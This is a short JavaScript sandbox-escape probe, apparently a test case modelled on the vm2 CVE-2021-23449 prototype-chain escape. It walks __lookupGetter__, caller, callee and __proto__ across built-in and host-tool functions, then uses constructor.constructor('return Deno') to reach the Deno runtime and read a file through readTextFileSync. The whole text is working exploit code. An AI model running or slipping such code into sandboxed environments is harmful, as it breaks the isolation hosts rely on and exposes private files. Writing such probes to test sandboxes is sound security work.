// Tries: __lookupGetter__, __defineGetter__ and caller/callee, to get at functions that a host keeps private.
// Origin: vm2 CVE-2021-23449 (prototype chains); the old `caller` escapes.

const loot = (D) => [D.args, D.readTextFileSync(input.file)];

const found = [];
const sloppy = { valueOf() { return 1; } };
for (const name of ["__proto__", "caller", "arguments", "callee"]) {
  for (const place of [Function.prototype, Object.prototype, tools.echo, console.log, sloppy.valueOf]) {
    for (const get of [() => place.__lookupGetter__(name).call(place), () => place[name], () => place.__lookupSetter__(name)]) {
      try {
        found.push(loot(get().constructor.constructor("return Deno")()));
      } catch (error) {
        found.push(`${error}`);
      }
    }
  }
}
return found;
